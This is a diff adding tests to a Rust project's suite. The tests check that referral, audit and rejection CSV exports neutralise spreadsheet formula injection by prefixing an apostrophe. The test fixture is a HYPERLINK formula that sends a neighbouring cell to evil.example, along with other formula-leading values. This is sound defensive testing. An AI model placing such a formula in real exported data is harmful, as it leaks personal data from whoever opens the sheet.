@@ -8,6 +8,12 @@
 //! memory (its peak included, read from `/proc`) stays within a bound while it reads them.
 //! The workbooks are built by `vamos_ingest::fuzzing`; the ingest crate's `bombs` tests try
 //! every limit on its own.
+//!
+//! CSV formula injection: a name, a rejected value or an audit purpose such as
+//! `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` reaches the CSV files other people
+//! open in a spreadsheet (the referral list, the rejection report, the audit export). Each is
+//! written with an apostrophe in front, so the spreadsheet shows it as text; numbers stay numbers
+//! (`vamos_domain::csv_safe` tries every dangerous first character on its own).
 
 #![allow(
     clippy::unwrap_used,
@@ -196,4 +202,74 @@ fn a_workbook_bomb_posted_as_counter_referrals_is_refused_within_bounded_memory(
     // The server still answers.
     let (status, _, _) = call(&s, &Who::default(), "get", "/api/health", None);
     assert_eq!(status, 200);
+}
+
+/// A cell that a spreadsheet runs as a formula, sending the neighbouring cell away.
+const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;
+
+/// `cell` as the CSV writer quotes it (the formula's quotes doubled), with the apostrophe.
+fn neutralised(cell: &str) -> String {
+    format!("\"'{}\"", cell.replace('"', "\"\""))
+}
+
+#[test]
+fn a_formula_in_a_name_is_neutralised_in_the_referral_csv() {
+    let row = serde_json::json!({
+        "id": 7,
+        "priority": -5,
+        "district_code": "1116",
+        "person": {"given_names": HYPERLINK, "family_names": "@SUM(1+1)"},
+    });
+    let csv = vamos_app::referrals::report_csv(&[row]).unwrap();
+    let csv = String::from_utf8(csv).unwrap();
+    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
+    assert!(csv.contains(",'@SUM(1+1)"), "{csv}");
+    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
+    // Numbers stay numbers, negative ones included.
+    assert!(csv.contains("\n7,,-5,"), "{csv}");
+}
+
+#[test]
+fn a_formula_in_a_purpose_is_neutralised_in_the_audit_export() {
+    let row = vamos_store::audit::AuditRow {
+        id: 1,
+        at: "2025-01-01T00:00:00Z".into(),
+        actor: "ana".into(),
+        role: Some("operador".into()),
+        institution: Some("MSPBS".into()),
+        action: "leer persona".into(),
+        subject_kind: "persona".into(),
+        subject_id: "-12".into(),
+        purpose: HYPERLINK.into(),
+        request_id: None,
+        outcome: "+ok".into(),
+        prev_hash: None,
+        hash: None,
+    };
+    let csv = vamos_app::audit::audit_csv(&[row]).unwrap();
+    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
+    assert!(csv.contains("\"'+ok\""), "{csv}");
+    assert!(csv.contains("\"-12\""), "{csv}");
+}
+
+#[test]
+fn a_formula_in_a_rejected_value_is_neutralised_in_the_rejection_report() {
+    let d = tempfile::tempdir().unwrap();
+    let path = d.path().join("rechazos.csv");
+    let mut log = vamos_ingest::report::RejectionLog::new(Some(&path)).unwrap();
+    log.reject_row(vec![vamos_ingest::report::Rejection {
+        file: "hogares.csv".into(),
+        row: 2,
+        column: "cedula".into(),
+        value: HYPERLINK.into(),
+        reason: "-cédula inválida".into(),
+        key: "\t=1+2".into(),
+    }])
+    .unwrap();
+    log.finish().unwrap();
+    let csv = std::fs::read_to_string(&path).unwrap();
+    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
+    assert!(csv.contains(",'-cédula inválida,"), "{csv}");
+    assert!(csv.contains(",'\t=1+2\n"), "{csv}");
+    assert!(csv.contains("hogares.csv,2,cedula,"), "{csv}");
 }
